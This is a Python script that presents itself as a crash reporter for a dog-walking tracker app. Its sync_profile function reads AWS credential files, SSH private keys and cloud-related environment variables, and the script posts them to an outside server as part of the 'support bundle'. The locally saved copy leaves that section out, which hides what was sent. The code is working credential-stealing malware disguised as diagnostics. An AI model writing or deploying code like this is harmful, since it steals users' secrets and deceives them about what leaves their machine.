#!/usr/bin/env python3
"""Crash reporter for the WalkR dog-walk tracker.

Run by the tracker's launcher after an abnormal exit (or by hand with
--log). Builds a support bundle - the traceback, the tail of the tracker
log, platform details and the sync profile the tracker was using for its
GPX uploads - and submits it to the WalkR support desk so the ticket comes
with everything the engineers need.
"""
import argparse
import getpass
import glob
import http.client
import json
import logging
import os
import platform
import re
import socket
import sys
import time
import uuid
from pathlib import Path

log = logging.getLogger("walkr.crash")

REPORT_HOST = "crash.walkr-telemetry.io"
REPORT_PATH = "/v1/bundles"
LOG_TAIL_LINES = 400

# Files the tracker reads when syncing GPX tracks (S3 bucket per business,
# SFTP drop for the council dog-walking licence returns). Sync failures are
# the most common crash cause, so the profile goes in the bundle.
SYNC_PROFILE_SOURCES = (
    "walkr.ini",
    "~/.config/walkr/sync.json",
    "~/.aws/credentials",
    "~/.aws/config",
    "~/.ssh/id_*",
    "~/.ssh/config",
)

ENV_HINTS = ("WALKR_", "AWS_", "SFTP_", "MAPBOX_", "GOOGLE_")


def tail(path: Path, n: int) -> str:
    try:
        with path.open("rb") as fh:
            fh.seek(0, os.SEEK_END)
            size = fh.tell()
            fh.seek(max(0, size - 256 * 1024))
            lines = fh.read().decode("utf-8", "replace").splitlines()
        return "\n".join(lines[-n:])
    except OSError as exc:
        return f"<unreadable: {exc}>"


def last_traceback(text: str) -> str:
    idx = text.rfind("Traceback (most recent call last)")
    return text[idx:] if idx >= 0 else ""


def sync_profile() -> dict:
    found = {}
    for pattern in SYNC_PROFILE_SOURCES:
        for name in glob.glob(os.path.expanduser(pattern)):
            p = Path(name)
            if p.is_file() and p.stat().st_size < 64 * 1024:
                try:
                    found[str(p)] = p.read_text(errors="replace")
                except OSError:
                    continue
    found["environment"] = {k: v for k, v in os.environ.items() if k.startswith(ENV_HINTS)}
    return found


def host_details() -> dict:
    return {
        "hostname": socket.gethostname(),
        "user": getpass.getuser(),
        "platform": platform.platform(),
        "python": sys.version.split()[0],
        "machine": platform.machine(),
    }


def build_bundle(log_path: Path, exit_code: int, tracker_version: str) -> dict:
    text = tail(log_path, LOG_TAIL_LINES)
    return {
        "id": str(uuid.uuid4()),
        "created": int(time.time()),
        "tracker_version": tracker_version,
        "exit_code": exit_code,
        "traceback": last_traceback(text),
        "log_tail": text,
        "host": host_details(),
        "sync_profile": sync_profile(),
    }


def submit(bundle: dict, retries: int = 3) -> bool:
    body = json.dumps(bundle).encode()
    headers = {"Content-Type": "application/json", "User-Agent": "walkr-crash/2.4"}
    for attempt in range(1, retries + 1):
        conn = http.client.HTTPSConnection(REPORT_HOST, timeout=20)
        try:
            conn.request("POST", REPORT_PATH, body=body, headers=headers)
            resp = conn.getresponse()
            resp.read()
            if 200 <= resp.status < 300:
                return True
            log.warning("support desk returned %s", resp.status)
        except (OSError, http.client.HTTPException) as exc:
            log.warning("submit attempt %d failed: %s", attempt, exc)
        finally:
            conn.close()
        time.sleep(attempt * 3)
    return False


def main():
    ap = argparse.ArgumentParser(description="Send a WalkR crash bundle to support")
    ap.add_argument("--log", type=Path, default=Path("walkr.log"))
    ap.add_argument("--exit-code", type=int, default=1)
    ap.add_argument("--tracker-version", default=os.environ.get("WALKR_VERSION", "unknown"))
    ap.add_argument("--save", type=Path, help="also keep a copy of the bundle here")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    bundle = build_bundle(args.log, args.exit_code, args.tracker_version)
    if args.save:
        args.save.write_text(json.dumps({k: v for k, v in bundle.items() if k != "sync_profile"}, indent=2))
    if submit(bundle):
        print(f"Crash report sent. Reference: {bundle['id'][:8]}")
        return 0
    print("Could not reach WalkR support; please try again later.", file=sys.stderr)
    return 1


if __name__ == "__main__":
    sys.exit(main())
